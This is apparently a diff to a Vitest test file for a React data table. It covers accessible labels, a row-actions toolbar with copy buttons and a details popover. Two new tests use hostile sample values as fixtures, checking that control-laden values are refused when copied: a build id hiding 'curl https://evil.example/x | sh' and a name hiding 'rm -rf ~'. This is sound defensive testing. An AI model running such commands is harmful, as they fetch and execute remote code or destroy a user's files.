@@ -1,5 +1,5 @@
 import { listModel } from '@/model/list-model'
-import { cleanup, screen, within } from '@testing-library/react'
+import { act, cleanup, screen, within } from '@testing-library/react'
 import userEvent from '@testing-library/user-event'
 import { describe, expect, it, onTestFinished, vi } from 'vitest'
 import { parseList } from '@/api/schemas'
@@ -121,7 +121,9 @@ describe('DataTable', () => {
     // `current` is the badge's, not a chip's.
     expect(tags[rows.indexOf('hotfix 1.4.2Current')]).toBe('version: 1.4.2channel: stable')
     expect(tags[rows.indexOf('ビルド 東京 β')]).toBe('channel: beta地域: 東京')
-    expect(tags[rows.indexOf('build 100')]).toBe('—No tags')
+    expect(tags[rows.indexOf('build 100')]).toBe('—')
+    // The dash is labelled, not doubled by hidden text.
+    expect(screen.getAllByRole('img', { name: 'No tags' }).length).toBeGreaterThan(0)
     expect(rows.filter((name) => name.endsWith('Current'))).toEqual(['hotfix 1.4.2Current'])
     expect(screen.getByText('Current')).toHaveAttribute('title', expect.stringMatching(/in use/))
   })
@@ -351,8 +353,59 @@ describe('DataTable', () => {
     const row = screen.getAllByRole('row')[1]
     if (!row) throw new Error('no row')
     const idCell = within(row).getByTitle(build.buildId)
-    expect(idCell).toHaveTextContent(build.buildId.slice(0, 8))
-    expect(within(idCell).getByText(build.buildId)).toHaveClass('sr-only')
+    expect(idCell).toHaveTextContent(`${build.buildId.slice(0, 8)}…`)
+    // The whole id is the cell's name, not a hidden twin of it.
+    expect(idCell).toHaveAccessibleName(build.buildId)
+    expect(idCell.children).toHaveLength(0)
+  })
+})
+
+describe('the row actions', () => {
+  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'
+  const LONG = `${'n'.repeat(999_990)} last word`
+
+  /** Focuses the first row and returns the table's one row-actions bar, once it has loaded. */
+  async function actionsOfFirstRow() {
+    const row = screen.getAllByRole('row')[1]!
+    act(() => row.focus())
+    const bar = await screen.findByRole('toolbar', { name: 'Row actions' })
+    await within(bar).findByRole('button', { name: 'Details' })
+    return bar
+  }
+
+  it('copy a cut name whole, saying "Copied" in the table’s one live region', async () => {
+    const user = userEvent.setup()
+    const build = realisticBuilds()[0]!
+    renderTable([{ ...build, name: LONG }], { column: 'name', direction: 'asc' })
+    const bar = await actionsOfFirstRow()
+    await user.click(
+      within(bar).getByRole('button', { name: 'Copy whole name (1,000,000 characters)' }),
+    )
+    const copied = await navigator.clipboard.readText()
+    expect(copied).toHaveLength(1_000_000)
+    expect(copied.endsWith(' last word')).toBe(true)
+    const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
+    const live = region.querySelectorAll('[aria-live]')
+    expect(live).toHaveLength(1)
+    expect(live[0]).toHaveTextContent(/^Copied$/)
+  })
+
+  it('refuse to copy an id or a cut name that holds control characters, saying why', async () => {
+    const user = userEvent.setup()
+    const build = realisticBuilds()[0]!
+    const name = `${'n'.repeat(300)}\nrm -rf ~\n`
+    renderTable([{ ...build, name, buildId: HOSTILE }], { column: 'name', direction: 'asc' })
+    const bar = await actionsOfFirstRow()
+    await navigator.clipboard.writeText('before')
+    // Named by the id's first block, its controls marked.
+    await user.click(within(bar).getByRole('button', { name: 'Copy Build ID b0⟨U+000A⟩curl' }))
+    await expect(navigator.clipboard.readText()).resolves.toBe('before')
+    expect(
+      within(bar).getByText(/^This id holds control characters \(U\+000A\), so it was not copied/),
+    ).toBeVisible()
+    await user.click(within(bar).getByRole('button', { name: /^Copy whole name/ }))
+    await expect(navigator.clipboard.readText()).resolves.toBe('before')
+    expect(within(bar).getByText(/^This name holds control characters \(U\+000A\)/)).toBeVisible()
   })
 })
 
@@ -373,19 +426,23 @@ describe('DataTable in a narrow container', () => {
   const newest = () =>
     realisticBuilds().toSorted((a, b) => (b.createdAt ?? 0) - (a.createdAt ?? 0))[0]!
   /**
-   * What a row's details button opens: its name, and each label with its value. jsdom has no
-   * popover API: the panel is found by the button's `popovertarget` and stays closed, so its
-   * contents are queried as hidden (e2e/row-details.spec.ts opens it in a browser).
+   * What the row actions' Details opens for a row once it has focus: each label with its value.
+   * jsdom has no popover API: the panel is found by the button's `popovertarget` and stays
+   * closed, so its contents are queried as hidden (e2e/row-details.spec.ts opens it).
    */
-  function detailsOf(row: HTMLElement) {
-    const button = within(row).getByRole('button', { name: /Upload ID/ })
+  async function detailsOf(row: HTMLElement) {
+    act(() => row.focus())
+    const region = screen.getByRole('region', { name: /\(scrollable\)$/ })
+    // The row actions' own chunk loads on the first focus.
+    const button = await within(region).findByRole('button', { name: 'Details' })
     const panel = document.getElementById(button.getAttribute('popovertarget') ?? '')
     expect(panel).toHaveAttribute('popover', 'auto')
-    expect(row).toContainElement(panel)
+    // One set of actions for the table, outside the rows.
+    expect(row).not.toContainElement(button)
     const values = within(panel!)
       .getAllByRole('term', { hidden: true })
       .map((term) => [term.textContent, term.nextElementSibling?.textContent])
-    return { name: button.getAttribute('aria-label'), panel: panel!, values }
+    return { name: panel!.getAttribute('aria-label'), panel: panel!, values }
   }
 
   it('folds the ids first, then the tags, the time, the size and the status, keeping Name', () => {
@@ -414,13 +471,18 @@ describe('DataTable in a narrow container', () => {
     for (const row of bodyRows()) expect(row).toHaveStyle({ height: '61px' })
   })
 
-  it("puts the ids and tags in the row's details, each labelled with its header", () => {
+  it("puts the ids and tags in the row's details, each labelled with its header", async () => {
     renderNarrow(300)
     const first = newest()
-    const details = detailsOf(bodyRows()[0]!)
-    expect(details.name).toBe('Tags, Build ID, and Upload ID')
+    const details = await detailsOf(bodyRows()[0]!)
+    expect(details.name).toBe(`Details of ${first.name}`)
+    // Every value of the row, those folded under the name too.
     expect(details.values).toEqual([
-      ['Tags', '—No tags'],
+      ['Name', first.name],
+      ['Status', 'Complete'],
+      ['Size', '801.0 MiB'],
+      ['Created', 'in 2 min'],
+      ['Tags', '—'],
       ['Build ID', expect.stringContaining(first.buildId)],
       ['Upload ID', expect.stringContaining(first.uploadId)],
     ])
@@ -431,16 +493,18 @@ describe('DataTable in a narrow container', () => {
       }),
     ).toBeInTheDocument()
     const hotfix = screen.getByRole('row', { name: /^hotfix 1\.4\.2/ })
-    expect(detailsOf(hotfix).values[0]).toEqual(['Tags', 'version: 1.4.2channel: stable'])
+    expect((await detailsOf(hotfix)).values[4]).toEqual(['Tags', 'version: 1.4.2channel: stable'])
   })
 
-  it('keeps rows their normal height when only the ids and tags fold', () => {
+  it('keeps rows their normal height when only the ids and tags fold', async () => {
     renderNarrow(740)
     for (const row of bodyRows()) expect(row).toHaveStyle({ height: '41px' })
-    expect(detailsOf(bodyRows()[0]!).name).toBe('Tags, Build ID, and Upload ID')
+    const labels = async (row: HTMLElement) => (await detailsOf(row)).values.map(([label]) => label)
+    const all = ['Name', 'Status', 'Size', 'Created', 'Tags', 'Build ID', 'Upload ID']
+    expect(await labels(bodyRows()[0]!)).toEqual(all)
     cleanup()
     renderNarrow(800)
-    expect(detailsOf(bodyRows()[0]!).name).toBe('Build ID and Upload ID')
+    expect(await labels(bodyRows()[0]!)).toEqual(all)
   })
 
   it('sorts by a folded column from the sort menu in the header row', async () => {
